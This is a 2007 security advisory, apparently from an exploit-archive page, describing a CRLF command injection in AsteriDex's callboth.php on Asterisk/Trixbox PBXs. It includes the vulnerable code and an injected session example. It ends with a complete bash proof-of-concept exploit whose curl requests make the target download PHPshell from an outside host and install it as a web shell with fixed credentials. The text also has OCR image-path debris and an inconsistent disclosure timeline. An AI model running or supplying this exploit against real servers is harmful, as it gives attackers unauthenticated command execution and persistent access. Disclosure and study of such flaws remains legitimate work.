AsteriDex (Asterisk / Trixbox) remote code execution

Credit: Carl Livitt
Risk: High
Local: No
Remote: Yes
CWE: CWE-Other

CVSS Base Score: 7.5/10
Impact Subscore: 6.4/10
Exploitability Subscore: 10/10
Exploit range: Remote
Attack complexity: Low
Authentication: No requiredConfidentiality impact: Partial
Integrity impact: Partial
Availability impact: Partial

___ ___ Hoku Security Vulnerability Advisory ___ ___ Title: AsteriDex remote command executionVendor URL: Type: Commandinjection / remote code execution Vulnerable versions: <= 3.0 Risk factor: High Popularity: Low Author: Carl Livitt Contact: carl (at) (dot) uk [email concealed] Date: 25th June, 2007 Location: ___ ___ Description: AsteriDex is a digital rolodex for Asterisk / Trixbox PBXs. There is a command injection vulnerability which allows unauthenticated users to execute arbitrary commands on the Asterisk management console. Such access permits execution of arbitrary operating system commands as the 'asterisk' user. The software is vulnerable in its default configuration. ___ ___ Details: The script 'callboth.php' is used by AsteriDex to bridge a VOIP call between two end-points. Insufficient parameter checking is done on the variables IN and OUT, allowing a malicious user to inject arbitrary commands into the Asterisk management console. The script works by logging into the console server on port 5038/TCP on localhost. It then issues an'Action: Originate' command which is used to setup the bridged call. The relevant code from callboth.php is: fputs ($fp, "Action: loginrn"); fputs ($fp, "Username: phpagirn"); fputs ($fp, "Secret: phpagirn"); fputs ($fp, "Events: offrnrn"); sleep(1) ; fputs ($fp, "Action: Originatern"); fputs ($fp, "Channel: $INrn"); << Command injection fputs ($fp, "Context: custom-callbothrn"); fputs ($fp, "Exten: $OUTrn"); << Command injection fputs ($fp, "Priority: 1rnrn"); $IN is set from $_GET['IN'] with no sanity checking other than a test of string length; all strings passed to $IN must be less than 100 chars, including the string 'sip/' which is prepended to $IN prior to the length check. Given sane values of $IN=123, $out=321 and $CallerID=567, the session would look like this: Action: login Username: phpagi Secret: phpagi Events: off Action: Originate Channel: 123 Context: custom-callboth Exten: 321 Priority: 1 By including CRLF characters in $IN, an attacker can inject arbitrary commands into the data stream, hijacking the authenticated session to run commands of the attackers choice. Take, for example, a $IN string containing: 190 (at) example (dot) com [emailconcealed]rnApplication:SystemrnData: echo pwn3d > /tmp/hoku.txtrn This would transform the session into: Action: login Username: phpagi Secret: phpagi Events: off Action: Originate Channel: 190 (at) example (dot) com [email concealed] Application: System Data: echo pwn3d > /tmp/hoku.txt Context: custom-callboth Exten: 321 Priority: 1 This would use the call manager's 'System' functionality to execute user- supplied operating system commands, in this case writing the word "pwn3d" to a file called "/tmp/hoku.txt". The rest of the session would fail because the attacker has subverted the original 'Action', rendering the remaining commands meaningless to the manager. ___ ___ Updated Versions: A patched version of AsteriDex is available from: ___ ___ Timeline: mm/dd/yyyy --- 06/25/2007 Vendor contacted. 06/03/2007 Vendor contacted again, response received. Details sent to vendor. 06/03/2007 Patch issued and updated version available. 06/05/2007 Advisory released. ___ ___ Hoku Security: Our aim is to give you the business assurance that you require in order to maintain a secure company infrastructure. With clients across the globe in the UK and USA, we understand the threats posed to your business and provide best of breed consulting and solutions to secure your interests and protect your bottom line. Visit for more information and contact details. ___ ___ Exploit: A proof of concept is provided. It downloads PHPshell, installs it into the root of the vulnerable Asterisk server's web directory and sets a username/password of trixbox/trixbox. It obeys the 100 char max restriction. ## ## Begin exploit ## #!/bin/bash echo Asteridex PoC Exploit (callboth.php vulnerability) echo By Carl Livitt/ Hoku Security / June 2007 echo # This has to be (a) a valid SIP address, and (b) must answer when dialled. # The exploit will fail without these conditions being met. # Currently uses the Melonite SIP echo test service. SIP="190 (at) sip.melonite (dot) nu [email concealed]" # Magic number, don't change. The default installation of AsteriDexchecks # for this number and fails without it. SEQ=654321 # Other stuff we need LOC=/asteridex/callboth.php OUT=123456 # Sanity if [ "$1X" == "X" ]; then echo Syntax: $0 <Host IP[:port]> echo For example: $0 exit 1 fi # Insanity echo "[-] Exploiting host $1 - please wait" echo -n '[+]' Building shell script curl "http://$1/$LOC?SEQ=$SEQ&OUT=$OUT&IN=$SIP%0d%0aApplication:%20System%0d% 0aData:%20echo%20!/bin/sh>/tmp/t%0d%0a" &>/dev/null echo -n . curl "http://$1/$LOC?SEQ=$SEQ&OUT=$OUT&IN=$SIP%0d%0aApplication:%20System%0d% 0aData:%20echo%20%2dn%20wget%20%2dO%20x.tar.bz2%20%5c%27http://%3e%3e/tm p/t%0d%0a" &>/dev/null echo -n . curl "http://$1/$LOC?SEQ=$SEQ&OUT=$OUT&IN=$SIP%0d%0aApplication:%20System%0d%" &>/dev/null echo . curl "http://$1/$LOC?SEQ=$SEQ&OUT=$OUT&IN=$SIP%0d%0aApplication:%20System%0d% 0aData:%20echo%20phpshell%2d2.1.tar.bz2%3fdownload%5c%27%3e%3e/tmp/t%0d% 0a" &>/dev/null echo '[+] Executing shell script' curl "http://$1/$LOC?SEQ=$SEQ&OUT=$OUT&IN=$SIP%0d%0aApplication:%20System%0d% 0aData:%20cd%20/tmp;chmod%20%2bx%20t;./t;tar%20jxf%20x.tar.bz2%0d%0a" &>/dev/null echo -n '[+] Setting up phpshell' curl "http://$1/$LOC?SEQ=$SEQ&OUT=$OUT&IN=$SIP%0d%0aApplication:%20System%0d% 0aData:%20cd%20cd%20/tmp;mv%20phpshell-2.1%20p%0d%0a" &>/dev/null echo -n . curl "http://$1/$LOC?SEQ=$SEQ&OUT=$OUT&IN=$SIP%0d%0aApplication:%20System%0d% 0aData:%20cd%20/tmp/p;echo%20%5c%5busers%5c%5d>config.php%0d%0a" &>/dev/null echo -n . curl "http://$1/$LOC?SEQ=$SEQ&OUT=$OUT&IN=$SIP%0d%0aApplication:%20System%0d% 0aData:%20cd%20/tmp/p;echo%20%27trixbox%3d%22trixbox%22%27>>config.php%0 d%0a" &>/dev/null echo . curl"http://$1/$LOC?SEQ=$SEQ&OUT=$OUT&IN=$SIP%0d%0aApplication:%20System%0d%0aData:%20mv%20/tmp/p%20/var/www/html/phpshell%0d%0a" &>/dev/null # Have a nice day echo "Done! You should now be able to browse to http://$1/phpshell/phpshell.php" echo You can login with the username 'trixbox' and password 'trixbox' ## ## End Exploit ##

Vote for this issue:


Thanks for you vote!Thanks for you comment!
Your message is in quarantine 48hours.

Comment it here.

(*) - required fields.
{{ x.nick }} | Date: {{ x.ux * 1000 | date:'yyyy-MM-dd' }} {{ x.ux * 1000 |date:'HH:mm' }} CET+1
{{x.comment }}

Copyright 2022,


Back to Top